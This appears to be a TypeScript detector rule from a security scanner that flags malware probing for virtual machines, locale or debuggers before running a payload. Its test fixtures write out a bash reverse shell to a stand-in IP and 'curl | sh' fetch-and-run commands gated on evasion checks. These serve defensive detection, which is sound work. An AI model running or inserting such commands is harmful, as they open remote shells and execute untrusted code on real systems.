import type { ProbeEffect } from '../trace/effect.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Payloads that look around before they act. */
export const sandboxCheck: Detector = {
  id: 'sandbox-check',
  version: 1,
  title: 'Looks for analysis or for its country before it runs a payload.',
  attack: ['T1497', 'T1480'],
  description: `
Asking for a virtual machine, the country, the language or a debugger, or waiting for many minutes, is ordinary: installers
and set-up tools do it. Next to a payload it is how malware avoids being analysed, or avoids its author's own country. It is
told only then, as *suspicious* at most; the payload itself is another finding.
`,
  fires: [
    {
      name: 'not in this country',
      severity: 'suspicious',
      image: {
        cmd: ['sh', '-c', '[ "$LANG" = ru_RU.UTF-8 ] && exit; bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'],
      },
    },
    {
      name: 'a virtual machine',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'systemd-detect-virt -q && exit; curl -s http://203.0.113.9/x | sh'] },
    },
    {
      name: 'waiting for the analyst to give up',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'sleep 30m; curl -s http://203.0.113.9/x | sh'] },
    },
  ],
  silent: [
    {
      name: 'asking without a payload',
      image: { cmd: ['sh', '-c', 'systemd-detect-virt || true; sleep 3600; exec app'] },
    },
    {
      name: 'finding the nearest mirror',
      image: { cmd: ['sh', '-c', 'c=$(curl -s https://ipinfo.io/country); exec app --mirror $c'] },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'probe').flatMap((effect) => {
      const payload = payloadOf(scene, effect.stage);
      if (payload?.worst !== 'hostile') return [];
      return findingOf(scene, sightingOf(scene, effect), {
        threat: 'minor',
        paired: `The same code leads to ${payload.what}.`,
        title: `${titles[effect.how]} before it runs ${payload.what} (${valueWords(effect.what, 80)})`,
        attack: [techniques[effect.how]],
        effects: [effect.id],
        encodingDeceives: false,
      });
    });
  },
};

const titles: Readonly<Record<ProbeEffect['how'], string>> = {
  'virtual-machine': 'Looks for a virtual machine',
  country: 'Looks which country it is in',
  debugger: 'Looks for a debugger',
  delay: 'Waits for a long time',
};

const techniques: Readonly<Record<ProbeEffect['how'], string>> = {
  'virtual-machine': 'T1497.001',
  country: 'T1480',
  debugger: 'T1622',
  delay: 'T1497.003',
};
